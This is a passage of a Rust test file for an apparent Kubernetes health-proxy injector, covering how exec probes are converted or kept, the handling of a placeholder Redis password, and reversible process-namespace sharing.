        "kept: mongosh is not a command",
    ),
    (
        "real-exec-kept.yaml",
        "worker",
        "readinessProbe",
        "kept: cat is not a command",
    ),
    (
        "real-exec-kept.yaml",
        "worker",
        "startupProbe",
        "kept: `&&` in the sh -c script",
    ),
];

#[test]
fn every_exec_probe_of_the_fixtures_is_converted_or_kept_with_its_reason() {
    let mut fixtures_seen = std::collections::BTreeSet::new();
    for (fixture, container, field, expected) in EXEC_EXPECTED {
        fixtures_seen.insert(*fixture);
        let text = std::fs::read_to_string(repo().join("tests/fixtures/inject").join(fixture)).unwrap();
        let out = inject::inject(&text, &Options::default()).unwrap();
        let objects = objects(&out.text);
        let origin = format!(r#"origin = "containers[{container}].{field}""#);
        let config = objects
            .iter()
            .filter(|o| o["kind"] == "ConfigMap")
            .filter_map(|o| o["data"]["config.toml"].as_str())
            .find(|c| c.contains(&origin));
        match expected.strip_prefix("kept: ") {
            Some(why) => {
                assert!(config.is_none(), "{fixture} {container} {field}: kept");
                let warning =
                    format!("container {container}: {field} is an exec probe kept with the kubelet: {why}");
                assert!(
                    out.warnings.iter().any(|w| w.contains(&warning)),
                    "{fixture}: {warning}\n{:#?}",
                    out.warnings
                );
            }
            None => {
                let config = config.unwrap_or_else(|| panic!("{fixture} {container} {field}: converted"));
                let check = &config[config.find(&origin).unwrap()..];
                let line = check.lines().nth(1).unwrap();
                assert_eq!(line, *expected, "{fixture} {container} {field}");
            }
        }
    }
    // The dry run says the same for every probe: converted to what, or
    // kept and why.
    for fixture in fixtures_seen {
        let (code, stdout, stderr) = cli(&["inject", "--dry-run", &fixture_path(fixture)], "");
        assert_eq!((code, stdout.as_str()), (0, ""), "{fixture}: {stderr}");
        for (f, container, field, expected) in EXEC_EXPECTED.iter().filter(|e| e.0 == fixture) {
            let said = match expected.strip_prefix("kept: ") {
                Some(why) => {
                    format!("container {container}: {field} is an exec probe kept with the kubelet: {why}")
                }
                None => format!("container {container}: {field} exec `"),
            };
            assert!(stderr.contains(&said), "{f}: {said}\n{stderr}");
            if !expected.starts_with("kept: ") {
                assert!(
                    stderr.contains(&format!("as {expected} -> check")),
                    "{f}: {expected}\n{stderr}"
                );
            }
        }
    }
}

#[test]
fn a_secrets_value_never_reaches_the_configmap_and_a_literal_password_stays_in_the_pod_spec() {
    let text = r#"
apiVersion: v1
kind: Pod
metadata: {name: literal}
spec:
  containers:
    - name: redis
      image: redis:7
      livenessProbe:
        exec:
          command: ["redis-cli", "-a", "hunter2-literal", "ping"]
"#;
    let out = inject::inject(text, &Options::default()).unwrap();
    let objects = objects(&out.text);
    let cm = objects.iter().find(|o| o["kind"] == "ConfigMap").unwrap();
    let config = cm["data"]["config.toml"].as_str().unwrap();
    assert!(!config.contains("hunter2-literal"), "{config}");
    assert!(
        config.contains(r#"password_env = "HEALTHPROXY_REDIS_LIVENESS_PASSWORD""#),
        "{config}"
    );
    let pod = find(&objects, "Pod", "literal").unwrap();
    let sidecar = &pod_spec(pod).unwrap().init_containers.unwrap()[0];
    let env = &sidecar.env.as_ref().unwrap()[0];
    assert_eq!(
        (env.name.as_str(), env.value.as_deref()),
        ("HEALTHPROXY_REDIS_LIVENESS_PASSWORD", Some("hunter2-literal"))
    );
    let back = inject::uninject(&out.text).unwrap().text;
    assert_same_stream(&back, text, "uninject restores the exec probe");
}

#[test]
fn a_pgrep_probe_moves_only_where_the_pod_shares_its_processes_or_the_flag_says_so() {
    let path = fixture_path("real-exec-pgrep.yaml");
    let text = std::fs::read_to_string(&path).unwrap();
    let (code, stdout, stderr) = cli(&["inject", &path], "");
    assert_eq!(code, 0, "{stderr}");
    assert!(
        stderr.contains("Deployment worker-alone: container worker: livenessProbe is an exec probe kept with the kubelet: pgrep sees the app's processes"),
        "{stderr}"
    );
    let out = objects(&stdout);
    assert!(!out.iter().any(|o| o["kind"] == "ConfigMap"
        && o["metadata"]["annotations"]["healthproxy.io/generated-for"] == "Deployment/worker-alone"));
    let (code, stdout, stderr) = cli(&["inject", "--share-process-namespace", &path], "");
    assert_eq!(code, 0, "{stderr}");
    assert!(
        stderr.contains("Deployment worker-alone: shareProcessNamespace set to true"),
        "{stderr}"
    );
    let out = objects(&stdout);
    out.iter().for_each(typed);
    let alone = find(&out, "Deployment", "worker-alone").unwrap();
    assert_eq!(pod_spec(alone).unwrap().share_process_namespace, Some(true));
    assert!(config_of(&out, "worker-alone").contains(r#"process = { pattern = "celery -A shop worker" }"#));
    // uninject takes it back off; the pod that had it keeps it.
    let (code, back, stderr) = cli(&["uninject"], &stdout);
    assert_eq!(code, 0, "{stderr}");
    assert_same_stream(&back, &text, "uninject(inject --share-process-namespace x) == x");
    // A record that claims the field for a pod without a pgrep probe is
    // refused: uninject never turns it off where inject did not turn it on.
    let http_pod = std::fs::read_to_string(repo().join("tests/fixtures/inject/pod.yaml")).unwrap();
    let injected = inject::inject(&http_pod, &Options::default()).unwrap().text;
    let forged = injected
        .replace(
            "spec:\n  containers:",
            "spec:\n  shareProcessNamespace: true\n  containers:",
        )
        .replace(
            r#"{\"at\":[\"metadata\",\"annotations\"#,
            r#"{\"at\":[\"spec\",\"shareProcessNamespace\"]},{\"at\":[\"metadata\",\"annotations\"#,
        );
    assert_ne!(forged, injected, "the record was forged");
    let err = inject::uninject(&forged).unwrap_err().to_string();
    assert!(err.contains("shareProcessNamespace"), "{err}");
}
